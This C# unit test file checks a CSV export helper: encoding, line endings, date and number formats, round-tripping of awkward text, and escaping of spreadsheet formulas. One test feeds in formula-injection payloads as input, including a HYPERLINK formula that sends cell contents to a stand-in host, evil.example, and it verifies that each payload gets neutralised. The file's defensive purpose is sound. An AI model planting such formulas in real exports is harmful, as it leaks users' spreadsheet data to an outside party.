using System.Text;
using Concord.Web.Infrastructure.Export;
using CsvHelper;

namespace Concord.Tests.Export;

public sealed class CsvExportTests
{
    private sealed record Row(string Title, DateOnly Due, int Days, decimal Amount, bool Done, DateTimeOffset? RecordedAt, Status Status, string? Note);

    private enum Status
    {
        OnTrack,
        Late,
    }

    private static readonly CsvColumn<Row>[] Columns =
    [
        new("Commitment", r => r.Title),
        new("Due date", r => r.Due),
        new("Days late", r => r.Days),
        new("Amount (£)", r => r.Amount),
        new("Done", r => r.Done),
        new("Recorded at", r => r.RecordedAt),
        new("Status", r => r.Status),
        new("Note", r => r.Note),
    ];

    private static readonly Row Plain = new("Send the referral form", new DateOnly(2026, 11, 22), -5, 1234.5m, false,
        new DateTimeOffset(2026, 7, 1, 9, 30, 0, TimeSpan.Zero), Status.OnTrack, null);

    private static byte[] Export(params Row[] rows)
    {
        using var stream = new MemoryStream();
        CsvExport.Write(rows, Columns, stream);
        return stream.ToArray();
    }

    private static List<string[]> ReadBack(byte[] bytes)
    {
        using var reader = CsvReader.Create(bytes, CsvReaderOptions.Default with { HasHeader = false });
        var records = new List<string[]>();
        while (reader.Read())
        {
            records.Add(reader.Current.ToArray());
        }

        return records;
    }

    [Fact]
    public void Output_starts_with_a_utf8_byte_order_mark_and_uses_crlf()
    {
        var bytes = Export(Plain, Plain);

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes[3..]);
        Assert.Equal(3, text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);
        Assert.DoesNotMatch("[^\r]\n", text);
    }

    [Fact]
    public void Values_read_back_with_iso_dates_invariant_numbers_and_uk_times()
    {
        var records = ReadBack(Export(Plain));

        Assert.Equal(["Commitment", "Due date", "Days late", "Amount (£)", "Done", "Recorded at", "Status", "Note"], records[0]);
        Assert.Equal(["Send the referral form", "2026-11-22", "-5", "1234.5", "No", "2026-07-01 10:30:00", "OnTrack", ""], records[1]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A2)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Text_that_could_run_as_a_formula_gets_a_leading_apostrophe(string dangerous)
    {
        var records = ReadBack(Export(Plain with { Title = dangerous, Note = dangerous }));

        Assert.Equal("'" + dangerous, records[1][0]);
        Assert.Equal("'" + dangerous, records[1][7]);
    }

    [Fact]
    public void Negative_numbers_stay_numbers()
    {
        Assert.Equal("-5", ReadBack(Export(Plain))[1][2]);
    }

    [Fact]
    public void Commas_quotes_line_breaks_and_accents_survive_the_round_trip()
    {
        var awkward = "Café \"Le Cœur\", Hilltop\r\nsecond line – £5";

        Assert.Equal(awkward, ReadBack(Export(Plain with { Title = awkward }))[1][0]);
    }

    [Fact]
    public void Text_with_a_harmless_start_is_left_alone()
    {
        Assert.Equal("Email a@b.example = done", ReadBack(Export(Plain with { Title = "Email a@b.example = done" }))[1][0]);
    }

    [Fact]
    public async Task The_async_version_writes_the_same_bytes()
    {
        using var stream = new MemoryStream();
        await CsvExport.WriteAsync([Plain, Plain with { Title = "=1" }], Columns, stream);

        Assert.Equal(Export(Plain, Plain with { Title = "=1" }), stream.ToArray());
    }

    [Fact]
    public void An_empty_export_still_has_its_header()
    {
        var records = ReadBack(Export());

        Assert.Equal("Commitment", Assert.Single(records)[0]);
    }
}
